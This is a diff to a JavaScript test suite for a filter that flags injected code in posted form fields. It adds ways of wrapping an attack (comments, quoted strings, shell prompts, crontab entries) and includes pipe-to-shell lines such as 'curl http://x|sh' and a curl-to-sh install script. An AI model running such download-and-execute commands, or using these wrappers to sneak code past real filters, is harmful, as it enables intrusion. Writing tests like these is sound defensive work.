@@ -42,6 +42,13 @@ describe('what surrounds an attack changes nothing', () => {
     (attack) => `'${words}'; ${attack}`,
     (attack) => `a = 1;\nb = 2;\n${attack}`,
     (attack) => `${block}${attack}`,
+    (attack) => `/* <pre> */ ${attack} /* </pre> */`,
+    (attack) => `// <pre>\n${attack}\n// </pre>`,
+    (attack) => `"<code>"; ${attack} "</code>"`,
+    (attack) => `"a \\" <code>"; ${attack} "</code>"`,
+    (attack) => `b'<code>'; ${attack} b'</code>'`,
+    (attack) => `/*\n$ */ ${attack} /*\n*/`,
+    (attack) => `#!/bin/sh\n${attack}`,
   ];
   const codes = [
     'phpinfo();',
@@ -66,6 +73,9 @@ describe('code that a text quotes', () => {
     'an element': `<p>Install it:</p><pre>${command}</pre>`,
     'an element in a line': `<p>Install it with <code>${command}</code> first.</p>`,
     'a block of a tracker': `Install it:\n{code:bash}\n${command}\n{code}`,
+    'a line behind a prompt': `Install it:\n$ ${command}\n`,
+    'a line behind a prompt with a name': `Install it:\nana@web:~# ${command}\n`,
+    'an entry of a crontab': `My crontab:\n*/5 * * * 1-5 ${command}\n`,
     'a block of a forum': `Install it: [code]\n${command}\n[/code]`,
   };
   test.each(Object.entries(quoted))('%s in a form', (_, value) => {
@@ -96,6 +106,7 @@ describe('source code as a whole value', () => {
   test.each([
     'FROM debian:12\nRUN apt-get update && apt-get install -y curl; rm -rf /var/lib/apt\nCMD ["sh"]',
     'steps:\n  - run: npm ci && npm test | tee log.txt\n  - name: done',
+    '#!/bin/sh\nset -e\ncurl -fsSL https://example.com/install | sh\n',
   ])('%j', (value) => expect(stops(posted({ source: value }))).toBe(false));
   test.each([
     'const a = 1;\nconst b = 2;\n; curl http://x|sh',
